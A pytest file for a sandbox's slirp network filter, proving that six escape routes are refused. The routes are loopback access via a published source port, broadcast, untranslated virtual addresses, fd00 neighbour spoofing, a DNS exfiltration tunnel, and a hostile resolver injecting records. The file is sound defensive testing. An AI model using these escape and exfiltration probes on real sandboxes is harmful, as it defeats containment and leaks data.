"""The one judge of --net slirp (src/allow.c, src/hostsock.c): every host
socket libslirp connects or sends on is judged on the destination the host
really gets, after libslirp's translation; DNS questions and answers with
--allow-net. Each test proves a refusal, so it runs in a network namespace of
its own (tests/netns.py) with stand-in services: if the hole came back, the
packet would reach a stand-in there, and nothing could leave the machine.

The holes are those of issue 14, items 1 to 6; each test failed on the code
before the judge (frames judged before libslirp, on the sandbox's addresses)."""

import json

import pytest

from netns import run_in_netns

# Inside the sandbox: TCP connect to HOST:PORT, from SPORT when not 0.
# Prints a JSON line: the outcome, an error as its name and errno.
TCP_CLIENT = r"""
import json, socket, sys
host, port, sport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(5)
if sport:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", sport))
try:
    s.connect((host, port)); out = "GOT " + s.recv(64).decode().strip()
except OSError as e:
    out = "ERR %s %s" % (type(e).__name__, e.errno)
print(json.dumps({"out": out}))
"""

# Inside: UDP datagrams to HOST:PORT (broadcast allowed), from SPORT when not 0.
UDP_SENDER = r"""
import socket, sys
host, port, sport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
if sport:
    s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", sport))
for _ in range(3):
    try:
        s.sendto(b"leak", (host, port))
    except OSError as e:
        print("send:", e)
print("sent")
"""

COMMON = """
TCP_CLIENT = %r
UDP_SENDER = %r
def inside(*opts, cmd):
    r = hutch("run", "--net", "slirp", *opts, "--", *cmd)
    return {"rc": r.returncode, "stdout": r.stdout, "stderr": r.stderr}
def tcp(host, port, sport=0, opts=()):
    r = inside(*opts, cmd=["python3", "-c", TCP_CLIENT, host, str(port), str(sport)])
    for line in r["stdout"].splitlines():
        if line.startswith("{"):
            r.update(json.loads(line))
    return r
def udp(host, port, sport=0, opts=()):
    return inside(*opts, cmd=["python3", "-c", UDP_SENDER, host, str(port), str(sport)])
""" % (TCP_CLIENT, UDP_SENDER)


def scenario(tmp_path, code, addrs=()):
    return run_in_netns(COMMON + code, tmp_path, addrs=addrs)


def refused(r):
    """How the judge refuses a connection: a TCP reset, which the client sees
    at once. A SYN dropped instead would leave it waiting: TimeoutError, after
    its 5 s; the error alone tells them apart, with no clock."""
    assert r.get("out") == "ERR ConnectionRefusedError 111", r


# ---------------------------------------------------------------- item 1

def test_published_guest_port_as_source_does_not_reach_host_loopback(tmp_path):
    res = scenario(tmp_path, """
lo4, lo6 = TcpSink("127.0.0.1"), TcpSink("::1")
u4 = UdpSink("127.0.0.1")
hp, hpu = nethelp.free_port(), nethelp.free_port(socket.SOCK_DGRAM)
pub = ["-p", "%d:8000" % hp, "-p", "%d:8000/udp" % hpu]
result["v4"] = tcp("10.0.2.2", lo4.port, 8000, pub)
result["v6"] = tcp("fd00::2", lo6.port, 8000, pub)
result["udp"] = udp("10.0.2.2", u4.port, 8000, pub)
time.sleep(0.3)
result["accepted"] = lo4.accepted + lo6.accepted
result["udp_got"] = u4.got
""")
    refused(res["v4"])
    refused(res["v6"])
    assert res["accepted"] == 0, res
    assert res["udp_got"] == [], res


def test_published_guest_port_as_source_stays_in_the_allowlist(tmp_path):
    res = scenario(tmp_path, """
far, faru = TcpSink("192.0.2.10"), UdpSink("192.0.2.10")
hp, hpu = nethelp.free_port(), nethelp.free_port(socket.SOCK_DGRAM)
opts = ["-p", "%d:8000" % hp, "-p", "%d:8000/udp" % hpu, "--allow-net", "192.0.2.1:80"]
result["tcp"] = tcp("192.0.2.10", far.port, 8000, opts)
result["udp"] = udp("192.0.2.10", faru.port, 8000, opts)
time.sleep(0.3)
result["accepted"], result["udp_got"] = far.accepted, faru.got
""", addrs=["192.0.2.10/32"])
    refused(res["tcp"])
    assert res["accepted"] == 0 and res["udp_got"] == [], res


def test_published_udp_still_answers_its_host_peer(tmp_path):
    # the reply rule the judge keeps: a datagram from a published port goes
    # back to the host peer that wrote to it, and to no one else
    res = scenario(tmp_path, """
hp = nethelp.free_port(socket.SOCK_DGRAM)
other = UdpSink("127.0.0.1")
echo = ("import socket\\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 8001))\\n"
        "print('ready', flush=True)\\n"
        "d, peer = s.recvfrom(100); s.sendto(b'echo ' + d, peer)\\n"
        "s.sendto(b'stray', ('10.0.2.2', %d))\\n" % other.port)
p = subprocess.Popen([sys.argv[2], "run", "--net", "slirp", "-p", "%d:8001/udp" % hp,
                      "--", "python3", "-c", echo], stdout=subprocess.PIPE, text=True)
p.stdout.readline()
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
got = None
for _ in range(20):
    c.sendto(b"hi", ("127.0.0.1", hp))
    try:
        got = c.recv(100).decode(); break
    except socket.timeout:
        pass
p.wait(timeout=20)
time.sleep(0.3)
result["got"], result["stray"] = got, other.got
""")
    assert res["got"] == "echo hi", res
    assert res["stray"] == [], res


# ---------------------------------------------------------------- items 2, 3

def test_broadcast_does_not_reach_host_loopback(tmp_path):
    res = scenario(tmp_path, """
u4, u6 = UdpSink("127.0.0.1"), UdpSink("::1")
result["r4"] = udp("255.255.255.255", u4.port)
result["r6"] = udp("ff02::1%tap0", u6.port)
time.sleep(0.3)
result["got"] = u4.got + u6.got
""")
    assert res["got"] == [], res
    assert "sent" in res["r4"]["stdout"], res


@pytest.mark.parametrize("opts", [[], ["--allow-net", "192.0.2.1:80"]],
                         ids=["no-allowlist", "allowlist"])
def test_virtual_network_addresses_never_leave(tmp_path, opts):
    # 10.0.2.255 and 10.0.2.7 are addresses of slirp's virtual network that
    # libslirp does not translate: it would send them to the host's network.
    # The test's namespace has them on its loopback, so a leak is seen there.
    res = scenario(tmp_path, """
sink, tsink = UdpSink("0.0.0.0"), TcpSink("0.0.0.0")
opts = %r
result["b"] = udp("10.0.2.255", sink.port, 0, opts)
result["u"] = udp("10.0.2.7", sink.port, 0, opts)
result["t"] = tcp("10.0.2.7", tsink.port, 0, opts)
time.sleep(0.3)
result["got"], result["accepted"] = sink.got, tsink.accepted
""" % (opts,), addrs=["10.0.2.255/32", "10.0.2.7/32"])
    assert res["got"] == [] and res["accepted"] == 0, res
    assert res["t"].get("out", "").startswith("ERR"), res


# ---------------------------------------------------------------- item 4

def test_fd00_addresses_do_not_reach_host_loopback(tmp_path):
    # with NET_ADMIN the sandbox can give any fd00::/64 address a neighbour
    # entry; libslirp maps all of that /64 to ::1
    res = scenario(tmp_path, """
lo6 = TcpSink("::1")
client = "ip -6 neigh replace fd00::7 lladdr 52:55:0a:00:02:02 dev tap0; python3 -c '%s' fd00::7 %d 0"
r = inside("--cap-add", "NET_ADMIN", cmd=["sh", "-c", client % (TCP_CLIENT.replace("'", "\\"'\\"'\\""), lo6.port)])
for line in r["stdout"].splitlines():
    if line.startswith("{"):
        r.update(json.loads(line))
result["r"] = r
result["accepted"] = lo6.accepted
""")
    assert res["accepted"] == 0, res
    refused(res["r"])


# ---------------------------------------------------------------- item 5

DNS_PROBE = r"""
import socket, struct, sys
name, tcp = sys.argv[1], sys.argv[2] == "tcp"
q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
q += struct.pack("!HH", 1, 1)
try:
    if tcp:
        s = socket.create_connection(("10.0.2.3", 53), timeout=5)
        s.sendall(struct.pack("!H", len(q)) + q)
        a = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
        s.sendto(q, ("10.0.2.3", 53))
        a = s.recv(4096)
    print("RCODE", a[3] & 15 if len(a) > 3 else "short")
except OSError as e:
    print("ERR", type(e).__name__)
"""


@pytest.mark.parametrize("rules", [["192.0.2.1:80"], ["mirror.hutch.test:443"]],
                         ids=["address-rules", "hostname-rule"])
def test_dns_tunnel_refused_with_any_allowlist(tmp_path, rules):
    res = scenario(tmp_path, """
dns = nethelp.DnsServer({"mirror.hutch.test": "192.0.2.1"}, tcp=True)
opts = ["--dns", "127.0.0.1:%%d" %% dns.port]
for r in %r:
    opts += ["--allow-net", r]
probe = %r
result["udp"] = inside(*opts, cmd=["python3", "-c", probe, "c2VjcmV0LWRhdGE.exfil.test", "udp"])
result["tcp"] = inside(*opts, cmd=["python3", "-c", probe, "c2VjcmV0LWRhdGE.exfil.test", "tcp"])
time.sleep(0.3)
result["queries"] = [q.hex() for q in dns.queries + dns.tcp_queries]
""" % (rules, DNS_PROBE))
    assert res["queries"] == [], res
    udp = dict(l.split(" ", 1) for l in res["udp"]["stdout"].splitlines() if " " in l)
    # REFUSED, answered by slirp's DNS itself: a dropped question would be a
    # TimeoutError after the probe's 5 s
    assert udp.get("RCODE") == "5", res
    tcp = dict(l.split(" ", 1) for l in res["tcp"]["stdout"].splitlines() if " " in l)
    assert tcp.get("ERR") == "ConnectionResetError", res  # the stream is reset


# ---------------------------------------------------------------- item 6

# A resolver whose every answer carries the records given for the question's
# name: whatever names they are for (a hostile or mistaken resolver).
HOSTILE_DNS = r"""
def name_bytes(n):
    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"

def rr(owner, kind, data):
    if kind == "A":
        return name_bytes(owner) + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(data)
    rd = name_bytes(data)
    return name_bytes(owner) + struct.pack("!HHIH", 5, 1, 60, len(rd)) + rd

class HostileDns:
    def __init__(self, answers, additional=()):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.answers, self.additional = answers, additional
        threading.Thread(target=self.serve, daemon=True).start()
    def serve(self):
        while True:
            q, peer = self.sock.recvfrom(4096)
            qid, flags = struct.unpack("!HH", q[:4])
            i = 12
            while q[i]:
                i += 1 + q[i]
            question, qtype = q[12:i + 5], struct.unpack("!H", q[i + 1:i + 3])[0]
            an = [rr(*r) for r in self.answers] if qtype == 1 else []
            ad = [rr(*r) for r in self.additional] if qtype == 1 else []
            self.sock.sendto(struct.pack("!HHHHHH", qid, 0x8180, 1, len(an), 0, len(ad))
                             + question + b"".join(an) + b"".join(ad), peer)
"""


def test_dns_answer_opens_only_the_questions_names(tmp_path):
    res = scenario(tmp_path, "import struct\n" + HOSTILE_DNS + """
good, evil, extra = TcpSink("192.0.2.1"), TcpSink("192.0.2.10"), TcpSink("192.0.2.11")
dns = HostileDns([("mirror.hutch.test", "A", "192.0.2.1"),
                  ("evil.hutch.test", "A", "192.0.2.10")],
                 [("evil2.hutch.test", "A", "192.0.2.11")])
opts = ["--dns", "127.0.0.1:%d" % dns.port, "--allow-net", "mirror.hutch.test"]
script = ("getent hosts mirror.hutch.test >/dev/null; "
          "python3 -c \\"$C\\" 192.0.2.1 %d 0; python3 -c \\"$C\\" 192.0.2.10 %d 0; "
          "python3 -c \\"$C\\" 192.0.2.11 %d 0") % (good.port, evil.port, extra.port)
r = inside("--setenv", "C=" + TCP_CLIENT, *opts, cmd=["sh", "-c", script])
result["lines"] = [json.loads(l) for l in r["stdout"].splitlines() if l.startswith("{")]
result["r"] = r
result["accepted"] = [good.accepted, evil.accepted, extra.accepted]
""", addrs=["192.0.2.10/32", "192.0.2.11/32"])
    lines = res["lines"]
    assert len(lines) == 3, res
    assert lines[0]["out"].startswith("GOT"), res
    refused(lines[1])
    refused(lines[2])
    assert res["accepted"] == [1, 0, 0], res


def test_dns_answer_follows_the_cname_chain(tmp_path):
    res = scenario(tmp_path, "import struct\n" + HOSTILE_DNS + """
cdn, evil = TcpSink("192.0.2.20"), TcpSink("192.0.2.10")
dns = HostileDns([("www.hutch.test", "CNAME", "edge.hutch.test"),
                  ("edge.hutch.test", "CNAME", "cdn.hutch.test"),
                  ("cdn.hutch.test", "A", "192.0.2.20"),
                  ("unrelated.hutch.test", "A", "192.0.2.10")])
opts = ["--dns", "127.0.0.1:%d" % dns.port, "--allow-net", "www.hutch.test"]
script = ("getent hosts www.hutch.test >/dev/null; "
          "python3 -c \\"$C\\" 192.0.2.20 %d 0; python3 -c \\"$C\\" 192.0.2.10 %d 0"
          ) % (cdn.port, evil.port)
r = inside("--setenv", "C=" + TCP_CLIENT, *opts, cmd=["sh", "-c", script])
result["lines"] = [json.loads(l) for l in r["stdout"].splitlines() if l.startswith("{")]
result["r"] = r
result["accepted"] = [cdn.accepted, evil.accepted]
""", addrs=["192.0.2.10/32", "192.0.2.20/32"])
    lines = res["lines"]
    assert len(lines) == 2, res
    assert lines[0]["out"].startswith("GOT"), res
    refused(lines[1])
    assert res["accepted"] == [1, 0], res
